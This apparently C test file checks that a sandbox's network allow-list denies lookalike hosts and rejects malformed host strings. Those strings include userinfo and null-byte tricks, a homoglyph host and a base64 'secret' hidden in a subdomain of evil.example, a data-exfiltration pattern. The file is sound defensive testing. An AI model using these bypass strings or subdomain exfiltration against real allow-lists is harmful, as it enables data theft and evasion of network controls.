// Tries hosts near the one that is allowed, and carries data out in names. None may even be looked up.
#include "net.h"
__attribute__((export_name("_start"))) void start(void) {
  static const char *all[] = {
    "ok.example.evil.example", "xok.example", "a.ok.example", "example", "ok.example:81", "ok.example:443", "c2VjcmV0.evil.example", "93.184.216.34",
  };
  u32 response;
  for (u32 i = 0; i < sizeof all / sizeof *all; i++) MUST(get(all[i], "/", &response) == DENIED);
  static const char *bad[] = {"ok.example@evil.example", "ok.example#@evil", "ok.example\\@evil", "ok.example%00.evil", "ok.example/evil", "ok..example", "", "ok.example:80:80", "[::1%25lo]", "ok.example:0", "o\xd0\xba.example"};
  for (u32 i = 0; i < sizeof bad / sizeof *bad; i++) MUST(request(bad[i], "/") == 0);
  proc_exit(0);
}
